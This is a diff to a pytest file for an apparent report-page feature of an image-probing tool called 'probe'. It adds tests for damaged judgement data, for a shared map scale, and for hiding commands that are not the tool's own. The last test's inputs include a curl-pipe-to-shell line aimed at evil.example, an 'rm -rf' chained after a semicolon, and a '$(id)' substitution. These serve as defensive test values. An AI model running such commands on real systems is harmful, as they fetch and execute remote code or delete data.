@@ -24,6 +24,12 @@ from probe.types import Identity, Mask
 from tests.report.reader import Elements, data_of
 from tests.runs import HOSTILE, photo, probed
 
+HUGE = {"area": 10**400, "stderr": 0, "points": [[0, 10**400]]}
+DAMAGED = {
+    "curves": {"deletion": HUGE, "insertion": HUGE},
+    "control": {"deletion": [], "insertion": []},
+}
+
 
 def unpacked(packed):
     steps = np.frombuffer(zlib.decompress(b64decode(packed["data"]), -15), "<u2")
@@ -128,7 +134,38 @@ def test_several_runs_stand_side_by_side():
         page([])
 
 
-@pytest.mark.parametrize("damage", [{}, {"curves": 3}, {"curves": {"deletion": {"points": [1]}}}])
+def test_maps_of_several_runs_that_measure_the_same_have_one_scale():
+    runs = [probed(seed=seed, labels=("patch", "half")) for seed in (0, 1)]
+    runs.append(replace(runs[1], label="half"))
+    scales = [run["maps"][0]["scale"] for run in data_of(page(runs, names="abc"))["runs"]]
+    alone = [data_of(page(run))["runs"][0]["maps"][0]["scale"] for run in runs]
+    assert scales == [[min(low for low, _ in alone), max(high for _, high in alone)]] * 3
+    other = data_of(page([runs[0], probed(method="windows")], names="ab"))["runs"]
+    assert other[0]["maps"][0]["scale"] == alone[0]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://evil.example/x | sh # probe",
+        "probe report a; rm -rf b",
+        "probe occlude $(id)",
+        "probe occlude 'a",
+        "",
+        ["probe"],
+    ],
+)
+def test_a_command_that_is_none_of_probes_own_is_not_shown(command):
+    result = probed()
+    result.settings["command"] = command
+    assert "To repeat it" not in page(result)
+    result.settings["command"] = "probe occlude 'a b; c.png' --budget 8"
+    assert "probe occlude &#39;a b; c.png&#39; --budget 8" in page(result)
+
+
+@pytest.mark.parametrize(
+    "damage", [{}, {"curves": 3}, {"curves": {"deletion": {"points": [1]}}}, DAMAGED]
+)
 def test_a_damaged_judgement_is_said(damage):
     with pytest.raises(UsageError, match="judge again"):
         page(probed(), judged=damage)
